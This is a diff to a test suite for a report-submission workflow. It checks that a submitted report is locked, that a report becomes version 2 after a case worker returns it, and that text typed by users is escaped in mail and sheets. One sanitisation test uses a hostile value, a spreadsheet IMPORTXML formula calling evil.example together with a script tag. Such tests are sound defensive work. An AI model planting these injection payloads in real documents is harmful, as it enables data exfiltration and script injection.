@@ -55,17 +55,28 @@ describe('a report without faults', () => {
     expect(round.inbox.arrivals()).toBe(1);
     expect((await report())?.version).toBe(1);
   });
-  it('says in the row when it is changed afterwards, and sends the change as version 2', async () => {
+  it('is locked: a change made all the same is marked, does not count, and is not sent', async () => {
     round.type(tab, 1, { measure: 'Annet navn' });
     await round.call('check', tab, fosen);
     expect(round.shown(tab, 1, 'status')).toBe('Endret etter innsending');
+    const { status, body } = await round.call('submit', tab, fosen);
+    expect([status, body['type']]).toEqual([409, 'urn:innstilling:alreadySubmitted']);
+    expect(body['detail']).toContain('Be saksbehandleren returnere den');
+    expect((await report())?.version).toBe(1);
+    expect(receipts()).toHaveLength(1);
+  });
+  it('is sent as version 2 when it has been returned, and version 1 is kept', async () => {
+    await round.call('return', tab, caseWorker, { reason: 'Rett navnet.' });
     await round.call('submit', tab, fosen);
     expect((await report())?.version).toBe(2);
-    expect(receipts()).toHaveLength(2);
-    const first = await round.functions.wiring.world.store.transact(key, (tx) =>
-      tx.list('submittedRow', 'Fosen/1'),
-    );
-    expect(first.map(({ cells }) => cells['measure'])).not.toContain('Annet navn');
+    const versions = await round.functions.wiring.world.store.transact(key, async (tx) => [
+      await tx.list('submittedRow', 'Fosen/1'),
+      await tx.list('submittedRow', 'Fosen/2'),
+    ]);
+    expect(versions.map((rows) => rows.map(({ cells }) => cells['measure']).includes('Annet navn'))).toEqual([
+      false,
+      true,
+    ]);
   });
   it('may be sent only by the network itself', async () => {
     const { status, body } = await round.call('submit', tab, caseWorker);
@@ -77,6 +88,8 @@ describe('a report without faults', () => {
 describe('text that people typed', () => {
   it('is text in the mail and in the sheet, never HTML, header or formula', async () => {
     const hostile = '=IMPORTXML("http://evil.example")<script>alert(1)</script>';
+    await round.call('return', tab, caseWorker, { reason: '<b>Se over</b>' });
+    expect(receipts()[0]?.html).toContain('&#60;b&#62;Se over');
     round.type(tab, 1, { measure: hostile });
     await round.call('submit', tab, fosen);
     const [latest] = receipts();
